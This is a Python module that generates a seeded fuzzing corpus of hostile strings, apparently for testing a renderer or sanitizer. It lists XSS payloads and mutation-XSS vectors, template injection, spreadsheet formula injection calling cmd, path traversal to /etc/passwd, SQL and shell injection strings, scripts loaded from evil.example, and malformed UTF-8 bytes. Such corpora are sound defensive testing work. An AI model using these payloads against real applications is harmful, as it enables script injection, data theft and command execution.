"""Strings that try to be more than text: made from a seed, the same on every machine."""

import json
import random
from pathlib import Path

# What must never be in a string, since it marks where one begins and ends on a page.
OPEN, MIDDLE, CLOSE = "\u27ea", "\u00a6", "\u27eb"

DELIMITERS = list("<>&\"'`/={}()[];:,\\-_*#%$@!|~^?.+ \n\t\r\0")
# What joins the scalar before it, or changes how its neighbours are shown.
MARKS = [
    "\u0301", "\u0338", "\u0308", "\u0345", "\u0483", "\u20dd", "\u20e3", "\u1ab0", "\u3099",
    "\ufe0f", "\u200d", "\u202e", "\U000e0100",
]
CALLS = ["alert(1)", "pwned()", "confirm`1`", "prompt(document.domain)", "top.pwned&&pwned(2)"]
ELEMENTS = (
    "script img svg iframe object embed form base meta link style input button textarea select "
    "video audio source body html math details marquee isindex keygen dialog template noscript "
    "title xmp plaintext listing frameset a b p div table td x foo-bar animate set use portal"
).split()
EVENTS = (
    "onerror onload onclick onfocus onmouseover onpointerenter ontoggle onbegin onanimationend "
    "onhashchange onpageshow onscroll onbeforetoggle onwheel onkeydown oncontentvisibilityautostatechange"
).split()
BREAKOUTS = [
    "", '">', "'>", "`>", "-->", "--!>", "</title>", "</textarea>", "</script>", "</style>",
    "</noscript>", "</template>", "</svg>", "</math>", "</select>", "</xmp>", "]]>", "*/",
    '" ', "' ", "\\\"", "\\'", "</p></div></main>", "%22%3E", "&quot;>", "\u2028", "\n\n",
]

CLASSICS = [
    "<script>pwned()</script>", "<ScRiPt >pwned()</sCrIpT >", "<script/src=//evil.example/x.js>",
    "<scr<script>ipt>pwned()</scr</script>ipt>", "<script\x0cfoo>pwned()</script>",
    "<img src=x onerror=pwned()>", "<img/src/onerror=pwned()>", "<img src=`x`onerror=pwned()>",
    "<IMG SRC=\"jav\tascript:pwned();\">", "<<img src=x onerror=pwned()//>",
    "<svg/onload=pwned()>", "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>x</text></a>",
    "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;parent.pwned()&lt;/script&gt;\">",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>pwned()</script></svg>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math><mi//xlink:href=\"javascript:pwned()\">", "<math href=javascript:pwned()>x",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
    "<template><script>pwned()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=pwned()>\">",
    "<title><a title=\"</title><img src=x onerror=pwned()>\">",
    "<style><img src=\"</style><img src=x onerror=pwned()>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=pwned()>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"
    "<img onerror=pwned() src>\">",
    "<select><style></select><img src=x onerror=pwned()></style>",
    "<table><td background=javascript:pwned()>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwned()\">",
    "<meta charset=utf-7>+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
    "<iframe src=javascript:pwned()>", "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<object data=javascript:pwned()>", "<embed src=javascript:pwned()>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>", "<isindex type=image src=1 onerror=pwned()>",
    "<input autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>", "<body onload=pwned()>", "<marquee onstart=pwned()>",
    "<a href=\"javascript:pwned()\">x</a>", "<a href=\"data:text/html,<script>pwned()</script>\">",
    "<div style=\"background:url(javascript:pwned())\">", "<div style=\"width:expression(pwned())\">",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/)}",
    "<!--><img src=x onerror=pwned()>-->", "<!--<img src=\"--><img src=x onerror=pwned()//\">",
    "<![CDATA[<script>pwned()</script>]]>", "<?xml version=\"1.0\"?><script>pwned()</script>",
    "<?php echo '<script>pwned()</script>'; ?>", "<!DOCTYPE html [<!ENTITY x \"pwned()\">]>&x;",
    "<% pwned() %>", "{{constructor.constructor('pwned()')()}}", "${pwned()}", "#{pwned()}",
    "[[${pwned()}]]", "{{7*7}}", "{% raw %}<script>pwned()</script>", "@(pwned())", "`${pwned()}`",
    "\";pwned();//", "';pwned();//", "\\\";pwned();//", "</script><script>pwned()</script>",
    "\" onmouseover=pwned() x=\"", "' onmouseover=pwned() x='", "\" autofocus onfocus=pwned() \"",
    "x\" style=\"animation-name:x\" onanimationstart=\"pwned()", "\"><script>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt;", "&#60;script&#62;pwned()&#60;/script&#62;",
    "&#x3c;script&#x3e;pwned()&#x3c;/script&#x3e;", "&#0000060script>pwned()</script>",
    "&amp;lt;script&amp;gt;pwned()", "&lt&gt&quot&amp", "&NewLine;&Tab;&colon;&lpar;", "&#0;&#x0;",
    "&#xD800;&#x110000;&#99999999999;", "&notit;&notin;&ampamp;", "&fjlig;&bne;", "&;&#;&#x;",
    "%3Cscript%3Epwned()%3C/script%3E", "\\u003cscript\\u003epwned()", "\\x3cscript\\x3e",
    "＜script＞pwned()＜/script＞", "‹script›pwned()‹/script›", "¼script¾pwned()¼/script¾",
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' '!A0",
    "../../../../etc/passwd", "..\\..\\..\\boot.ini", "%2e%2e%2f%2e%2e%2f", "....//....//", "~root",
    "'; DROP TABLE comment; --", "1' OR '1'='1", "\"; DELETE FROM coding; --", "1;ATTACH 'x' AS y",
    "$(touch pwned)", "`touch pwned`", "| touch pwned", "; touch pwned;", "%n%s%p%x", "%00", "\\0",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b31m", "\b\b\b\bbackspaces", "\x7fdelete",
    "[link](javascript:pwned())", "[link](JaVaScRiPt:pwned())", "[link](javascript&colon;pwned())",
    "[link](java%0ascript:pwned())", "[link](<javascript:pwned()>)", "[link](\x01javascript:pwned())",
    "[link](vbscript:msgbox(1))", "[link](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[link](file:///etc/passwd)", "[link](//evil.example)", "[link](\\\\evil.example)",
    "![image](https://evil.example/x.png)", "![image](x \"onerror=pwned()\")",
    "![\"onerror=\"pwned()](x)", "[a](x\"onmouseover=\"pwned())", "<javascript:pwned()>",
    "<https://evil.example/\"onmouseover=pwned()>", "[x]: javascript:pwned()", "[x][x]",
    "```html\n<script>pwned()</script>", "    <script>pwned()</script>", "~~~\n<script>pwned()",
    "# <img src=x onerror=pwned()>", "> <img src=x onerror=pwned()>", "- <img src=x onerror=pwned()>",
    "| <img src=x onerror=pwned()> | b |\n|---|---|", "---\ntitle: <script>pwned()</script>\n---",
    "*<b onclick=pwned()>*", "**<b>**</b>", "\\<script>pwned()\\</script>", "<pwned@evil.example>",
    "\u202eevil\u202c", "\u2066\u2067x\u2069\u2069", "\u200b\u200c\u200d\ufeff", "\u2028\u2029",
    "ﷺ" * 20, "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319", "👩‍👩‍👧‍👦🏳️‍🌈👍🏽", "\U000e0041\U000e007f",
    "W" * 2000, "a\u0301" * 400, "\u00a0" * 30, " " * 40 + "x", "\t" * 20, "\n" * 20 + "x",
    "\ufffe\uffff", "\U0001fffe\U0010ffff", "\ufdd0\ufdef", "\x80\x85\x9f", "\u0000", "null",
    "undefined", "NaN", "true", "__proto__", "constructor", "toString", "-0", "1e309", "0x10",
    "main_", "toc_", "p_1", "#main_", "javascript:pwned()", "JAVASCRIPT:pwned()", " javascript:pwned()",
]

SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
    "javascript\u0301:", "&#106;avascript:", "&#x6a&#x61vascript:", "%6aavascript:",
    "vbscript:", "livescript:", "data:text/html,", "data:text/html;base64,", "blob:", "filesystem:",
    "view-source:", "feed:javascript:", "//evil.example/", "\\\\evil.example\\", "https:evil.example",
    "http:\u0338//evil.example/", "ftp://evil.example/", "file:///", "mailto:x?body=", "tel:", "#",
]


def strings(seed: int, naughty: Path | None) -> list[str]:
    """All of them, each once, shuffled."""
    chance = random.Random(seed)
    found: list[str] = list(CLASSICS)
    for delimiter in DELIMITERS:
        for mark in MARKS:
            pair = delimiter + mark
            found += [pair, pair + pair, f"a{pair}b", delimiter + mark + mark + delimiter]
        found += [delimiter * 2, delimiter * 7]
    for vector in CLASSICS[:90]:
        for mark in chance.sample(MARKS, 4):
            found.append("".join(c + mark if c in DELIMITERS else c for c in vector))
        found.append("".join(c * 2 if c in DELIMITERS else c for c in vector))
    for element in ELEMENTS:
        for event in chance.sample(EVENTS, 9):
            breakout, call = chance.choice(BREAKOUTS), chance.choice(CALLS)
            quote = chance.choice(["", '"', "'"])
            gap = chance.choice([" ", "/", "\t", "\n", "\x0c", "\u0301 "])
            found.append(f"{breakout}<{element}{gap}{event}={quote}{call}{quote}>")
    for breakout in BREAKOUTS:
        for call in CALLS:
            found.append(f"{breakout}<script>{call}</script>")
            found.append(f"{breakout} {chance.choice(EVENTS)}={call} x=")
    for scheme in SCHEMES:
        for call in CALLS:
            found += [scheme + call, f"[x]({scheme}{call})", f"<a href='{scheme}{call}'>x</a>"]
    if naughty is not None and naughty.is_file():
        found += json.loads(naughty.read_text("utf-8"))
    unique = list(dict.fromkeys(s for s in found if s and is_sendable(s)))
    chance.shuffle(unique)
    return unique


def is_sendable(string: str) -> bool:
    """Whether it can be written as UTF-8 and does not hold our own marks."""
    has_mark = any(mark in string for mark in (OPEN, CLOSE))
    return not has_mark and not any(0xD800 <= ord(c) <= 0xDFFF for c in string)


# Bytes that are no UTF-8 and stand for a delimiter in programs that look away.
NOT_UTF8 = [
    b"\xc0\xbc", b"\xc1\x9c", b"\xe0\x80\xbc", b"\xf0\x80\x80\xbc", b"\xf8\x80\x80\x80\xbc",
    b"\xfc\x80\x80\x80\x80\xbc", b"\xc0\xa7", b"\xc0\xae\xc0\xae\xc0\xaf", b"\xed\xa0\x80",
    b"\xed\xbf\xbf", b"\xed\xa0\xbd\xed\xb8\x80", b"\xf4\x90\x80\x80", b"\xf5\x80\x80\x80",
    b"\x80", b"\xbf", b"\xfe", b"\xff", b"\xc3", b"\xe2\x82", b"\xf0\x9f\x98", b"\xc3<", b"\xe2\x82'",
    b"\xf0\x9f\x98>", b"<\xc3script>", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\x28",
]
